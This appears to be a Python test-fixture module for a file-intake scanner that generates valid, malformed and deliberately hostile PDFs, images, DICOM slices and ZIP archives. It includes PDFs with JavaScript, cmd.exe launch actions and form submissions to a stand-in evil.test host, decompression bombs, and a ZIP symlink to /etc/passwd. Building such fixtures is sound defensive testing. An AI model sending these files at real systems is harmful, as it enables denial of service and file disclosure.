"""Files of every kind that people and programs send, made when asked for: good ones, broken ones, evil ones."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from typing import Any

import numpy as np
import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image
from pydicom.dataset import FileDataset, FileMetaDataset
from pydicom.uid import CTImageStorage, ExplicitVRLittleEndian, generate_uid

from intake.demo.files import pdf as plain_pdf
from intake.vault.probe import eicar

EICAR = eicar()
GPS, SERIAL, ORIENTATION, MAKER = 0x8825, 0xA431, 0x0112, 0x010F
PIXELS_WIDE, PIXELS_TALL = 60, 40


def pdf(*lines: str) -> bytes:
    return plain_pdf(*(lines or ("Discharge summary",)))


def pdf_of_pages(count: int) -> bytes:
    document = pikepdf.new()
    for _ in range(count):
        document.add_blank_page(page_size=(200, 280))
    return _written(document)


def pdf_with_password(user: str, owner: str = "owner") -> bytes:
    """An empty `user` password opens it for everybody: only changing it is forbidden."""
    document = pikepdf.open(io.BytesIO(pdf()))
    saved = io.BytesIO()
    document.save(saved, encryption=pikepdf.Encryption(user=user, owner=owner))
    return saved.getvalue()


def pdf_with_wrong_table() -> bytes:
    """Every object stands somewhere else than its table says."""
    return pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4\n" + b"%" + b"x" * 99 + b"\n", 1)


def pdf_that_acts(attachment: bytes = b"MZ\x90\0program") -> bytes:
    """Scripts, launches, forms that send, embedded files, 3D: everything of corpus V25, in plain and odd places."""
    document = pikepdf.open(io.BytesIO(pdf()))
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)", Next=Dictionary(S=Name.Launch, F="cmd.exe"))
    document.Root.OpenAction = script
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=document.make_stream(b"app.alert(2)")))
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array())
    document.attachments["program.exe"] = attachment
    page = document.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F="https://evil.test"))
    page.Annots = Array(
        [
            _link(Dictionary(S=Name.GoToR, F="//evil.test/x.pdf")),
            _link(Dictionary(S=Name.ImportData, F="x.fdf")),
            _link(Dictionary(S=Name.GoToE, F="x.pdf")),
            document.make_indirect(_link(document.make_indirect(Dictionary(S=Name.Launch, F="cmd.exe")))),
            Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=Array([0, 0, 9, 9])),
            Dictionary(
                Type=Name.Annot, Subtype=Name.RichMedia, RichMediaContent=Dictionary(), Rect=Array([0, 0, 9, 9])
            ),
        ]
    )
    return _written(document)


def pdf_that_hides(*attachments: bytes) -> bytes:
    """Attachments whose entries stand in a compressed stream of objects, as many programs write them."""
    document, saved = pikepdf.open(io.BytesIO(pdf())), io.BytesIO()
    for number, content in enumerate(attachments):
        document.attachments[f"{number}.bin"] = content
    document.save(saved, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return saved.getvalue()


def pdf_that_kills_its_parser() -> bytes:
    """A page whose content unpacks to more than the memory of a child."""
    document = pikepdf.new()
    document.add_blank_page()
    zeros = io.BytesIO()
    packer = zlib.compressobj(9)
    for _ in range(900):
        zeros.write(packer.compress(bytes(1024 * 1024)))
    zeros.write(packer.flush())
    document.pages[0].obj.Contents = Stream(document, b"")
    document.pages[0].obj.Contents.write(zeros.getvalue(), filter=Name.FlateDecode)
    return _written(document)


def _link(action: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)


def _written(document: pikepdf.Pdf) -> bytes:
    """Written twice: a scanner finds an attachment only in a file whose objects stand where it looks for them."""
    plain, saved = io.BytesIO(), io.BytesIO()
    document.save(plain)
    pikepdf.open(plain).save(saved, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return saved.getvalue()


def photo(kind: str = "JPEG", shade: int = 0, **given: Any) -> bytes:
    """A landscape picture, dark in its upper left corner."""
    picture = Image.new("RGB", (PIXELS_WIDE, PIXELS_TALL), (200, 190, 180 - shade))
    picture.paste((10, 10, 10), (0, 0, 20, 15))
    saved = io.BytesIO()
    if kind == "HEIF":
        pillow_heif.from_pillow(picture).save(saved)
    else:
        picture.save(saved, kind, **given)
    return saved.getvalue()


def photo_that_tells_too_much(turn: int = 6) -> bytes:
    """Place, serial number, maker, a comment, and a note that the camera was held upright."""
    notes = Image.Exif()
    notes[MAKER] = "Acme"
    notes[ORIENTATION] = turn
    notes.get_ifd(0x8769)[SERIAL] = "SN-4711"
    notes.get_ifd(GPS)[1] = "N"
    notes.get_ifd(GPS)[2] = (32.0, 5.0, 7.0)
    return photo(exif=notes, comment=b"holiday", quality=88)


def jpeg_that_claims(width: int, height: int) -> bytes:
    """A small file whose header promises this many pixels."""
    small = bytearray(photo())
    at = small.index(b"\xff\xc0") + 5
    small[at : at + 4] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(small)


def tiff_of_pages(count: int) -> bytes:
    pages = [Image.new("L", (PIXELS_WIDE, PIXELS_TALL), 250 - number) for number in range(count)]
    saved = io.BytesIO()
    pages[0].save(saved, "TIFF", save_all=True, append_images=pages[1:], description="taken by Acme")
    return saved.getvalue()


def dicom(preamble: bytes = b"", frames: int = 1, **tags: Any) -> bytes:
    """A slice of computed tomography of the boy in `factories.SENDER`."""
    told = {
        "PatientName": "Primerov^Timur", "PatientBirthDate": "20180327", "PatientSex": "M", "Modality": "CT",
        "StudyInstanceUID": "1.2.3", "SeriesInstanceUID": "1.2.3.4", "SeriesDescription": "Chest", "SeriesNumber": 2,
        "InstanceNumber": 1, "StudyDate": "20260301", "WindowCenter": 40, "WindowWidth": 400,
    } | tags  # fmt: skip
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID, meta.TransferSyntaxUID = CTImageStorage, ExplicitVRLittleEndian
    meta.MediaStorageSOPInstanceUID = generate_uid(entropy_srcs=[repr(sorted(told.items(), key=str))])
    image = FileDataset("", {}, file_meta=meta, preamble=preamble.ljust(128, b"\0"))
    image.SOPClassUID, image.SOPInstanceUID = CTImageStorage, meta.MediaStorageSOPInstanceUID
    for name, value in told.items():
        if value is not None:
            setattr(image, name, value)
    image.Rows, image.Columns, image.NumberOfFrames = PIXELS_TALL, PIXELS_WIDE, frames
    image.SamplesPerPixel, image.PhotometricInterpretation = 1, "MONOCHROME2"
    image.BitsAllocated, image.BitsStored, image.HighBit, image.PixelRepresentation = 16, 16, 15, 1
    image.RescaleSlope, image.RescaleIntercept = 1, -1024
    ramp = np.linspace(0, 2400, PIXELS_TALL * PIXELS_WIDE * frames).astype(np.int16)
    image.PixelData = ramp.tobytes()
    saved = io.BytesIO()
    image.save_as(saved, enforce_file_format=True)
    return saved.getvalue()


def dicom_without_preamble() -> bytes:
    return dicom()[128:]


def bundle(members: Mapping[str, bytes] | Iterable[tuple[str, bytes]], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    saved = io.BytesIO()
    pairs = members.items() if isinstance(members, Mapping) else members
    with zipfile.ZipFile(saved, "w", packing) as archive:
        for name, content in pairs:
            archive.writestr(name, content)
    return saved.getvalue()


def bundle_with_a_link() -> bytes:
    saved = io.BytesIO()
    link = zipfile.ZipInfo("IM2")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(saved, "w") as archive:
        archive.writestr("IM1", dicom())
        archive.writestr(link, "/etc/passwd")
    return saved.getvalue()


def bundle_with_password() -> bytes:
    """Marked as encrypted, as a packing program marks it; nobody here has to be able to decrypt it."""
    plain = bytearray(bundle({"IM1": dicom()}))
    for sign, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        plain[plain.index(sign) + flags_at] |= 1
    return bytes(plain)


def bomb(times: int = 1200) -> bytes:
    """Megabytes of zeros at about a thousand to one."""
    return bundle({"IM1": bytes(times * 1024)})


def png_that_claims(width: int, height: int) -> bytes:
    """A small file whose header promises this many pixels, with a right checksum."""
    small = bytearray(photo("PNG"))
    small[16:24] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    small[29:33] = zlib.crc32(small[12:29]).to_bytes(4, "big")
    return bytes(small)


def png_with_a_long_note(mebibytes: int) -> bytes:
    """A picture with a note of this many MiB, packed to a thousandth (zTXt)."""
    packed = zlib.compress(bytes(mebibytes * 1024 * 1024), 9)
    note = b"zTXtComment\0\0" + packed
    chunk = len(note[4:]).to_bytes(4, "big") + note + zlib.crc32(note).to_bytes(4, "big")
    plain = photo("PNG")
    return plain[:33] + chunk + plain[33:]


def bundle_of_zeros(gibibytes: int) -> bytes:
    """A ZIP whose one member unpacks to this many GiB of zeros, about a thousand to one. Its checksum is not worked
    out: whoever reads as far as that has read too much."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = first * (gibibytes * 1024) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    size, name = gibibytes << 30, b"IM1"
    long_sizes = struct.pack("<HHQQ", 1, 16, size, len(packed))
    common = struct.pack("<HHHHHIIIHH", 45, 0, 8, 0, 33, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(long_sizes))
    entry = b"PK\x03\x04" + common + name + long_sizes
    table = b"PK\x01\x02" + struct.pack("<H", 45) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name + long_sizes
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(table), len(entry) + len(packed), 0)
    return entry + packed + table + end
